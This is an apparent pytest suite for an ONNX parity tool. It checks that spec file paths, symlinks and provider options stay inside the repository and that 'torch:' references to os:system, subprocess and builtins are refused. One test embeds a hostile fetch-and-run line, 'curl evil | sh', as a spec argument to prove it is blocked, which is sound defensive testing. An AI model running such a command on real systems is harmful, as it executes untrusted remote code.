"""Nothing outside the repository unless asked (spec/confine.py): every path in a spec, `..`
and symlinks resolved, stays inside the repository it belongs to, or is a spec error at its line
and column naming --allow-outside-repo; a `torch:` reference names the repository's code or an
installed package, never the standard library."""

from __future__ import annotations

from pathlib import Path

import pytest

from onnx_parity.cli.main import main
from onnx_parity.errors import SpecError
from onnx_parity.spec import load_spec
from onnx_parity.spec.confine import ROOT_MARKER, RealPaths, confinement

MODEL = "  - name: m\n    onnx: {onnx}\n    datasets: [d]\n"


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A checkout (tmp_path/repo, with .git) and, beside it, files that are not the repo's."""
    monkeypatch.delenv("GITHUB_WORKSPACE", raising=False)
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "models").mkdir()
    (root / "models" / "m.onnx").write_bytes(b"onnx")
    (root / "data").mkdir()
    (root / "data" / "d.npz").write_bytes(b"npz")
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("m.onnx", "d.npz", "libops.so", "factory.py"):
        (outside / name).write_bytes(b"not the repository's")
    return root


def _spec(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "parity.yaml"
    path.write_text("version: 1\n" + text)
    return path


def _problems(spec: Path) -> list[tuple[int, int, str]]:
    with pytest.raises(SpecError) as caught:
        load_spec(spec)
    return [(p.line, p.column, p.message) for p in caught.value.problems]


def _datasets(path: str = "../data/d.npz") -> str:
    return f"datasets:\n  d: {{kind: npz, path: {path}}}\nmodels:\n"


def test_paths_inside_the_repository_load_through_dot_dot(repo: Path) -> None:
    spec = _spec(repo / "specs", _datasets() + MODEL.format(onnx="../models/m.onnx"))
    (model,) = load_spec(spec).models
    assert model.onnx == (repo / "models" / "m.onnx").resolve()


@pytest.mark.parametrize(("key", "line", "column", "what"), [
    ("onnx", 6, 11, "model 'm': onnx file"),
    ("data", 3, 24, "dataset 'd': npz file"),
])
def test_dot_dot_out_of_the_repository_is_a_located_error(
        repo: Path, key: str, line: int, column: int, what: str) -> None:
    onnx = "../../outside/m.onnx" if key == "onnx" else "../models/m.onnx"
    data = "../../outside/d.npz" if key == "data" else "../data/d.npz"
    spec = _spec(repo / "specs", _datasets(data) + MODEL.format(onnx=onnx))
    (problem,) = _problems(spec)
    assert problem[:2] == (line, column)
    target = repo.parent / "outside" / ("m.onnx" if key == "onnx" else "d.npz")
    assert problem[2] == (f"{what} {target} is outside the repository ({repo}); a spec's "
                          "paths stay inside it, unless the run is given --allow-outside-repo")
    assert load_spec(spec, allow_outside_repo=True).models[0].onnx is not None


def test_a_symlink_out_of_the_repository_is_refused(repo: Path) -> None:
    """Links inside the repository that lead out: a file, a folder, a library, a factory."""
    outside = repo.parent / "outside"
    (repo / "models" / "link.onnx").symlink_to(outside / "m.onnx")
    (repo / "data" / "link.npz").symlink_to(outside / "d.npz")
    (repo / "lib").symlink_to(outside, target_is_directory=True)
    (repo / "factory.py").symlink_to(outside / "factory.py")
    spec = _spec(repo, "targets:\n  ops:\n    providers: [CPUExecutionProvider]\n"
                       "    custom_op_libraries: [lib/libops.so]\n"
                 + _datasets("data/link.npz")
                 + MODEL.format(onnx="models/link.onnx") + "    targets: [ops]\n"
                 + "  - name: t\n    torch: factory.py:make\n    inputs: {x: [1, 4]}\n")
    problems = _problems(spec)
    assert [(line, message.split(" is outside ")[0]) for line, _, message in problems] == [
        (5, f"target 'ops': custom op library {outside / 'libops.so'}"),
        (7, f"dataset 'd': npz file {outside / 'd.npz'}"),
        (10, f"model 'm': onnx file {outside / 'm.onnx'}"),
        (14, f"model 't': torch file {outside / 'factory.py'}"),
    ]
    assert all("--allow-outside-repo" in message for _, _, message in problems)


def test_files_in_a_symlinked_folder_resolve_through_it(repo: Path) -> None:
    """A folder is resolved once per spec; a link to it, in or out, is still followed."""
    outside = repo.parent / "outside"
    (repo / "out").symlink_to(outside, target_is_directory=True)
    (repo / "in").symlink_to(repo / "models", target_is_directory=True)
    spec = _spec(repo, _datasets("out/d.npz") + MODEL.format(onnx="out/m.onnx")
                 + MODEL.format(onnx="in/../models/m.onnx").replace("name: m", "name: n")
                 + MODEL.format(onnx="in/m.onnx").replace("name: m", "name: o"))
    problems = _problems(spec)
    assert [(line, message.split(" is outside ")[0]) for line, _, message in problems] == [
        (3, f"dataset 'd': npz file {outside / 'd.npz'}"),
        (6, f"model 'm': onnx file {outside / 'm.onnx'}"),
    ]
    (repo / "out").unlink()
    (repo / "out").symlink_to(repo / "data", target_is_directory=True)
    (repo / "data" / "m.onnx").write_bytes(b"onnx")
    models = load_spec(spec).models
    assert [m.onnx for m in models] == [(repo / "data" / "m.onnx").resolve(),
                                        *[(repo / "models" / "m.onnx").resolve()] * 2]


def test_real_paths_are_what_resolve_gives(tmp_path: Path) -> None:
    """Each folder resolved once, and every odd path (links to files and folders, chains,
    dangling links, loops, '..' through a link, a file as a folder) as Path.resolve() has it."""
    (tmp_path / "real" / "sub").mkdir(parents=True)
    (tmp_path / "real" / "sub" / "f.onnx").write_bytes(b"")
    (tmp_path / "link").symlink_to(tmp_path / "real", target_is_directory=True)
    (tmp_path / "chain").symlink_to(tmp_path / "link", target_is_directory=True)
    (tmp_path / "real" / "file-link").symlink_to(tmp_path / "real" / "sub" / "f.onnx")
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    raws = ["real/sub/f.onnx", "link/sub/f.onnx", "chain/sub/f.onnx", "chain/../real/sub",
            "real/file-link", "link/file-link", "dangling", "dangling/x", "loop", "loop/x",
            "missing/a/b", "real/sub/f.onnx/x", "./real//sub/./f.onnx", "real/sub/",
            "link/sub/..", "link/..", str(tmp_path / "link" / "sub"), "nul\0byte"]
    real = RealPaths()
    for raw in [*raws, *raws]:  # the second time from what the first resolved
        try:
            expected: Path | type[Exception] = (tmp_path / raw).resolve()
        except (OSError, RuntimeError, ValueError) as exc:
            expected = type(exc)
        try:
            got: Path | type[Exception] = real.resolve(tmp_path, raw)
        except (OSError, RuntimeError, ValueError) as exc:
            got = type(exc)
        assert got == expected, raw


def test_provider_paths_and_config_entries_stay_inside(repo: Path) -> None:
    trt = "TensorrtExecutionProvider"
    spec = _spec(repo / "specs", f"""targets:
  trt:
    providers: [{trt}, CUDAExecutionProvider]
    provider_options:
      {trt}:
        trt_engine_cache_path: ../caches/engines
        trt_timing_cache_path: ../../outside/timing
        trt_extra_plugin_lib_paths: ../lib/a.so;/usr/lib/b.so
    session_options:
      config_entries: {{ep.context_file_path: /tmp/ctx.onnx, session.intra_op.allow_spinning: "0"}}
{_datasets()}  - name: m
    onnx: ../models/m.onnx
    datasets: [d]
    targets: [trt]
""")
    problems = _problems(spec)
    text = spec.read_text().splitlines()
    lines = [next(i + 1 for i, line in enumerate(text) if key in line)
             for key in ("trt_timing", "trt_extra", "ep.context")]
    columns = (32, 37, 46)
    assert [(line, column) for line, column, _ in problems] == list(zip(lines, columns,
                                                                        strict=True))
    assert "trt_timing_cache_path" in problems[0][2]
    assert "/usr/lib/b.so is outside the repository" in problems[1][2]
    assert "/tmp/ctx.onnx is outside the repository" in problems[2][2]
    spec.write_text(spec.read_text().replace("../../outside/timing", "../caches/timing")
                    .replace(";/usr/lib/b.so", "").replace("/tmp/ctx.onnx", "ctx.onnx"))
    target = load_spec(spec).targets["trt"]
    options = dict(target.provider_options[trt])
    assert options["trt_engine_cache_path"] == str(repo / "caches" / "engines")
    assert options["trt_extra_plugin_lib_paths"] == str(repo / "lib" / "a.so")
    assert target.config_entries["ep.context_file_path"] == str(repo / "specs" / "ctx.onnx")
    assert target.config_entries["session.intra_op.allow_spinning"] == "0"


@pytest.mark.parametrize(("reference", "says"), [
    ("os:system", "'os' is Python's standard library"),
    ("subprocess:run", "'subprocess' is Python's standard library"),
    ("importlib.util:spec_from_file_location", "'importlib' is Python's standard library"),
    ("builtins:exec", "'builtins' is a module built into Python"),
    ("sys:exit", "'sys' is a module built into Python"),
])
def test_the_standard_library_is_refused_at_the_key(repo: Path, reference: str,
                                                    says: str) -> None:
    """`torch: os:system` with `args` would run a shell from a YAML-only change: refused, even
    with --allow-outside-repo."""
    spec = _spec(repo, f"models:\n  - name: m\n    torch: {reference}\n"
                       "    args: {command: 'curl evil | sh'}\n    inputs: {x: [1]}\n")
    for allowed in (False, True):
        with pytest.raises(SpecError) as caught:
            load_spec(spec, allow_outside_repo=allowed)
        (problem,) = caught.value.problems
        assert (problem.line, problem.column) == (4, 12)
        assert problem.message == (f"model 'm': torch: {says}, not a model of the repository")


def test_a_module_reference_is_the_repositorys_or_an_installed_packages(
        repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "nets").mkdir()
    (repo / "nets" / "__init__.py").write_text("")
    elsewhere = repo.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "outsider.py").write_text("def make(): ...\n")
    monkeypatch.syspath_prepend(str(elsewhere))
    models = "".join(f"  - name: m{i}\n    torch: {ref}\n    inputs: {{x: [1]}}\n"
                     for i, ref in enumerate(["nets.vision:make", "torch.nn:Linear",
                                              "not_installed_anywhere.x:y", "outsider:make"]))
    spec = _spec(repo, "models:\n" + models)
    (problem,) = _problems(spec)
    assert problem[:2] == (13, 12)
    assert problem[2] == (f"model 'm3': torch: 'outsider' is {elsewhere / 'outsider.py'}, "
                          f"outside the repository ({repo}) and not an installed package; "
                          "write the factory in a file of the repository, or give the run "
                          "--allow-outside-repo")
    assert len(load_spec(spec, allow_outside_repo=True).models) == 4


def test_which_folder_is_the_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """GITHUB_WORKSPACE when it holds the spec; else the nearest .git (a worktree's is a file)
    or bundles' marker above it; else the spec's own folder."""
    workspace = tmp_path / "ws"
    (workspace / "a" / ".git").mkdir(parents=True)
    monkeypatch.setenv("GITHUB_WORKSPACE", str(workspace))
    assert confinement(workspace / "a" / "b" / "p.yaml").root == workspace.resolve()
    monkeypatch.delenv("GITHUB_WORKSPACE")
    assert confinement(workspace / "a" / "b" / "p.yaml").root == (workspace / "a").resolve()
    monkeypatch.setenv("GITHUB_WORKSPACE", str(workspace))
    worktree = tmp_path / "wt"
    (worktree / "specs").mkdir(parents=True)
    (worktree / ".git").write_text("gitdir: elsewhere\n")
    assert confinement(worktree / "specs" / "p.yaml").root == worktree.resolve()
    bundles = tmp_path / "bundles"
    (bundles / "case").mkdir(parents=True)
    (bundles / ROOT_MARKER).touch()
    assert confinement(bundles / "case" / "parity.yaml").root == bundles.resolve()
    lone = tmp_path / "lone"
    assert confinement(lone / "p.yaml").root == lone.resolve()
    assert confinement(lone / "p.yaml").named == "the spec's folder"
    assert confinement(lone / "p.yaml", allow_outside=True).root is None


def test_a_symlinked_spec_that_leads_out_is_refused(repo: Path) -> None:
    outside = _spec(repo.parent / "outside" / "specs", _datasets() + MODEL.format(onnx="x.onnx"))
    (repo / "parity.yaml").symlink_to(outside)
    (problem,) = _problems(repo / "parity.yaml")
    assert problem[:2] == (1, 1) and problem[2].startswith(f"the spec {outside} is outside")


def test_the_cli_says_where_and_how_to_allow(repo: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    spec = _spec(repo / "specs", _datasets() + MODEL.format(onnx="../../outside/m.onnx"))
    assert main(["run", str(spec), "--list"]) == 2
    err = capsys.readouterr().err
    assert f"error: {spec}:6:11: model 'm': onnx file " in err
    assert "unless the run is given --allow-outside-repo" in err
    assert main(["run", str(spec), "--list", "--allow-outside-repo"]) == 0
    assert capsys.readouterr().out.strip() == "m[onnx-cpu-d]"


def test_the_action_input_reaches_the_cli() -> None:
    from onnx_parity.cli import action

    assert action.get_settings({}).allow_outside_repo is False
    settings = action.get_settings({"INPUT_ALLOW_OUTSIDE_REPO": "on"})
    assert "--allow-outside-repo" in settings.run_args("r.json", None)
